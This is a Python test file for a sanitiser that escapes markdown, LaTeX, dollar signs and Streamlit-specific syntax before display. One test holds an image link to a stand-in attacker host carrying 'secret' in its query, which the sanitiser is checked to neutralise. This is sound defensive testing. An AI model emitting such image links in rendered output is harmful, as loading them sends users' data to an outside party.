import pytest

from ui.markdown import JOINER, for_streamlit, plain


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        (r"so \(x^2\) is", "so $x^2$ is"),
        (r"\[ a + b \]", "$$ a + b $$"),
        ("$x + 1$ and $$y$$", "$x + 1$ and $$y$$"),
    ],
)
def test_formulas_are_formulas(text: str, drawn: str) -> None:
    assert for_streamlit(text) == drawn


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("$5 and $10", r"\$5 and \$10"),
        ("it costs $5", r"it costs \$5"),
        ("$20,000 or US$30", r"\$20,000 or US\$30"),
        (r"already \$5", r"already \$5"),
    ],
)
def test_money_is_money(text: str, drawn: str) -> None:
    assert for_streamlit(text) == drawn


def test_no_picture_is_loaded_from_where_a_text_says() -> None:
    drawn = for_streamlit("See ![a](https://evil.example/?q=secret) and ![b][1]")
    assert drawn == r"See \![a](https://evil.example/?q=secret) and \![b][1]"


def test_what_only_streamlit_means_is_shown_as_written() -> None:
    assert for_streamlit(":red[stop] at 10:30") == r"\:red[stop] at 10:30"
    assert for_streamlit("a :smile: b") == f"a :{JOINER}smile: b"
    assert for_streamlit(":material/home: and a: b") == f":{JOINER}material/home: and a: b"
    assert plain(":smile:") == f"\\:{JOINER}smile\\:"


@pytest.mark.parametrize(
    "code",
    [
        "`![x](y) $5 and $6 :red[z]`",
        "```\n![x](y)\n$5 \\(z\\)\n```",
        "~~~md\n:red[a]\n~~~",
        "```python\nprint('$1 $2')",
        "````\n```\n$1 and $2\n```\n````",
    ],
)
def test_code_is_left_alone(code: str) -> None:
    assert for_streamlit(f"before\n\n{code}").endswith(code)


def test_what_follows_code_is_drawn_again() -> None:
    assert for_streamlit("```\na\n```\nfor $5 and $6").endswith(r"for \$5 and \$6")


def test_an_address_stays_whole() -> None:
    text = "at https://a.example:8080/b:c/d?e=f:g and https://b.example/urn:key:1"
    assert for_streamlit(text) == text


def test_a_name_is_shown_letter_by_letter() -> None:
    assert plain("**a**_b_\n![c](d)") == r"\*\*a\*\*\_b\_ \!\[c\]\(d\)"
